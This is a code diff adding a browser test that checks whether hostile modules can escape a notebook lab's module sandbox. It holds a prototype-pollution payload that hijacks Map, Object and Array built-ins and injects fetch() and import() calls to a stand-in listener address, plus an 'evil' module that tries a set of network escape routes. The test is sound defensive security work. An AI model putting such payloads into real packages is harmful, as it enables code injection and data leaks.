@@ -2,6 +2,8 @@
 import { assert, assertEquals, assertMatch } from "deno-std/assert/mod.js";
 import { createSocket } from "node:dgram";
 import type { Page } from "playwright-core";
+import { Imports } from "../../../lab/notebook/import_graph.ts";
+import { cdn, withModules } from "../notebook/module_server.ts";
 import { browserTest, closeBrowser } from "./browser.ts";
 import {
   cell,
@@ -145,6 +147,82 @@ console.log(tried.length + " tried; through: " + through.join(", "));`,
     });
   });
 });
+
+/** What a module does to what the kernel links with, before another is imported. */
+const pollution = `const EVIL = 'yield; fetch("ADDRESS/polluted"); import("ADDRESS/polluted-import")';
+const get = Map.prototype.get;
+Map.prototype.get = function (key) {
+  const found = get.call(this, key);
+  return found?.module ? { ...found, module: { ...found.module, code: EVIL }, begun: undefined, ran: undefined } : found;
+};
+for (const name of ["error", "code", "specifiers"]) {
+  Object.defineProperty(Object.prototype, name, { get: () => EVIL, set() {}, configurable: true });
+}
+Array.prototype.find = () => ({ specifier: "x", address: "ADDRESS/found" });
+export default 1;`;
+
+browserTest(
+  "a module of the lock gets out by no route either, and makes nothing of the linking",
+  async () => {
+    await withListener(async (address, datagrams, heard) => {
+      const attacks = routes(address, datagrams);
+      const tries = Object.entries(attacks).map(([name, body]) =>
+        `await attempt(${JSON.stringify(name)}, async () => { ${body} });`
+      );
+      const evil = `export const through = [], tried = [];
+export const lab = {};
+async function attempt(name, work) {
+  tried.push(name);
+  try {
+    await Promise.race([work(), new Promise((_, reject) => setTimeout(() => reject("late"), 1500))]);
+    through.push(name);
+  } catch {}
+}
+${tries.join("\n")}
+export const later = () => import("${address}/later-" + tried.length);`;
+      const answers = {
+        [cdn("evil@1.0.0")]: evil,
+        [cdn("pollution@1.0.0")]: pollution.replaceAll("ADDRESS", address),
+        [cdn("good@1.0.0")]: "export default 2;",
+      };
+      await withModules(answers, async (server) => {
+        const imports = new Imports(server.source, { mayFetch: () => true });
+        const notebook = notebookOf(
+          "# Read me",
+          `import { through, tried } from "npm:evil@1.0.0"; console.log(tried.length + " tried; through: " + through.join(", "));`,
+          `import { later } from "npm:evil@1.0.0"; await later().catch(() => "no")`,
+          `import "npm:pollution@1.0.0"; 1`,
+          `await import("npm:good@1.0.0")`,
+        );
+        for (const name of ["evil", "pollution", "good"]) {
+          const specifier = `npm:${name}@1.0.0`;
+          notebook.metadata.lab.imports[specifier] = (await imports.lock(specifier)).locked;
+        }
+        await withNotebook(async ({ page, context, open }) => {
+          await context.route("https://cdn.jsdelivr.net/**", async (route) => {
+            const answer = await server.source.fetch(route.request().url(), AbortSignal.timeout(5000));
+            const headers = Object.fromEntries(answer.headers);
+            await route.fulfill({ status: answer.status, headers, body: await answer.text() });
+          });
+          await open();
+          server.heard.length = 0;
+          await openFile(page, notebook);
+          await runAll(page);
+          assertEquals(await outputOf(page, 2), `${tries.length} tried; through:`);
+          assertEquals(await outputOf(page, 3), '"no"');
+          await page.waitForTimeout(500);
+          assertEquals(heard, []);
+          assertEquals(
+            [...new Set(server.heard)].toSorted(),
+            server.heard.filter((one) => Object.hasOwn(answers, one)).toSorted(),
+          );
+          assert(page.url().startsWith("http://localhost:"));
+          await assertAlive(page);
+        });
+      });
+    });
+  },
+);
 
 for (const bare of [false, true]) {
   const host = bare ? "a host that sends no headers" : "the lab's own server";
